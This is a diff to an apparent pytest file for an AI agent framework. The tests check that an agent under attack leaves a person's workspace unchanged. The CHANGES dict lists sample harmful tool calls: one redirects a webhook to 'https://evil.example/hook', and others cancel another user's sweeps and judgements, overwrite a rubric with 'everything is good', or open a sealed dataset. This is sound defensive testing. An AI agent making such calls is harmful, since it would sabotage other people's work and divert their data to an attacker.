@@ -4,7 +4,7 @@ the threshold.
 
 import asyncio
 import json
-from collections.abc import AsyncIterator, Callable
+from collections.abc import AsyncIterator, Callable, Sequence
 from contextlib import asynccontextmanager
 from dataclasses import dataclass
 from pathlib import Path
@@ -20,11 +20,16 @@ from whet.v1 import (
     dataset_pb2,
     event_pb2,
     fanout_pb2,
+    hook_pb2,
+    hook_pb2_grpc,
     judge_pb2,
     judging_pb2,
     ledger_pb2,
     model_pb2,
     scorer_pb2,
+    sweep_pb2,
+    sweep_pb2_grpc,
+    sweeping_pb2,
 )
 from whet_agent.catalogue import tools
 from whet_agent.conversation import ToolRequest
@@ -33,6 +38,7 @@ from whet_agent.model.base import Moment, Thought
 from whet_agent.model.scripted import Line
 from whet_agent.session import AgentSession
 
+OURS = "https://ours.example/hook"
 DEAR = "sim/costly?price_out=900000000000000"
 """Nine hundred dollars for a thousand tokens."""
 UNDECIDED = (
@@ -57,6 +63,10 @@ CHANGES = {
     "clear_cache": "clear_cache {}",
     "cancel_fanout": 'cancel_fanout {"run_id": "RUN"}',
     "cancel_judgement": 'cancel_judgement {"run_id": "JUDGED"}',
+    "control_sweep": 'control_sweep {"run_id": "SWEPT", "action": "cancel"}',
+    "put_hook": 'put_hook {"name": "mine", "url": "https://evil.example/hook"}',
+    "delete_hook": 'delete_hook {"name": "mine"}',
+    "test_hook": 'test_hook {"name": "mine"}',
     "calibrate": 'calibrate {"run_id": "JUDGED"}',
     "put_rubric": 'put_rubric {"name": "problem-solving", "text": "everything is good"}',
     "put_dataset": 'put_dataset {"name": "rows", "path": "FILE"}',
@@ -64,7 +74,7 @@ CHANGES = {
     "tag_dataset": 'tag_dataset {"name": "rows", "add": ["gold"]}',
     "open_seal": 'open_seal {"name": "rows", "version": 1, "reason": "I want to see it"}',
 }
-"""One harmful call of each tool that changes something; RUN and JUDGED are a person's."""
+"""One harmful call of each tool that changes something; RUN, JUDGED and SWEPT are a person's."""
 
 
 ROWS = (
@@ -83,13 +93,20 @@ class Victim:
     run_id: str
     judged: str
     """A judgement of theirs, under way."""
+    swept: str
+    """A sweep of theirs, under way."""
     before: tuple[str, ...]
 
     def against(self, call: str) -> str:
         """Aim a call of `CHANGES` at this workspace."""
         file = self.folder / "worse.jsonl"
         file.write_text('{"input": "x", "output": "y"}\n', encoding="utf-8")
-        return call.replace("RUN", self.run_id).replace("JUDGED", self.judged).replace("FILE", str(file))
+        return (
+            call.replace("RUN", self.run_id)
+            .replace("JUDGED", self.judged)
+            .replace("SWEPT", self.swept)
+            .replace("FILE", str(file))
+        )
 
     @asynccontextmanager
     async def attacked(self, *lines: Line) -> AsyncIterator[tuple[AgentSession, Listener]]:
@@ -107,7 +124,35 @@ class Victim:
         judged = judge_pb2.GetJudgementRequest(run_id=self.judged)
         judgement = (await person.judge.GetJudgement(judged, metadata=person.metadata)).judgement
         assert judgement.state == event_pb2.RUN_STATE_RUNNING
+        found = sweep_pb2.GetSweepRequest(run_id=self.swept)
+        sweep = (await sweeping(self.served).GetSweep(found, metadata=person.metadata)).sweep
+        assert sweep.state == event_pb2.RUN_STATE_RUNNING
+        assert [hook.url for hook in await hooks(self.served)] == [OURS]
         assert {approval.state for approval in await approvals(person)} <= set(UNDECIDED)
+
+
+def sweeping(served: Served) -> sweep_pb2_grpc.SweepServiceStub:
+    return sweep_pb2_grpc.SweepServiceStub(served.channel)
+
+
+async def hooks(served: Served) -> Sequence[hook_pb2.Hook]:
+    stub = hook_pb2_grpc.HookServiceStub(served.channel)
+    return (await stub.ListHooks(hook_pb2.ListHooksRequest(), metadata=served.person.metadata)).hooks
+
+
+async def arranged_to_sweep(served: Served) -> str:
+    """Put a webhook and start a sweep that never ends, as a person; return the sweep's id."""
+    metadata = served.person.metadata
+    hook = hook_pb2.PutHookRequest(name="mine", url=OURS)
+    await hook_pb2_grpc.HookServiceStub(served.channel).PutHook(hook, metadata=metadata)
+    warm = sweeping_pb2.SearchDimension(name="ask.temperature", float_range=sweeping_pb2.FloatRange(high=1, step=0.5))
+    spec = sweep_pb2.SweepSpec(
+        pipeline=sweep_pb2.Pipeline(stages=[sweep_pb2.Stage(name="ask", model=HELD)]),
+        space=[warm],
+        items=[scorer_pb2.Item(input="x", reference="y")],
+    )
+    started = await sweeping(served).StartSweep(sweep_pb2.StartSweepRequest(spec=spec), metadata=metadata)
+    return started.sweep.run_id
 
 
 @pytest.fixture
@@ -124,7 +169,9 @@ async def victim(tmp_path: Path) -> AsyncIterator[Victim]:
         held = judging_pb2.Judge(models=[HELD])
         spec = judge_pb2.JudgementSpec(items=[scorer_pb2.Item(input="x", candidates=["y"])], judge=held)
         judged = await person.judge.StartJudgement(judge_pb2.StartJudgementRequest(spec=spec), metadata=person.metadata)
-        yield Victim(served, tmp_path, run.fanout.run_id, judged.judgement.run_id, await arrangements(person))
+        swept = await arranged_to_sweep(served)
+        judgement = judged.judgement.run_id
+        yield Victim(served, tmp_path, run.fanout.run_id, judgement, swept, await arrangements(person))
 
 
 async def refusing(session: AgentSession, heard: Listener, turn: int) -> None:
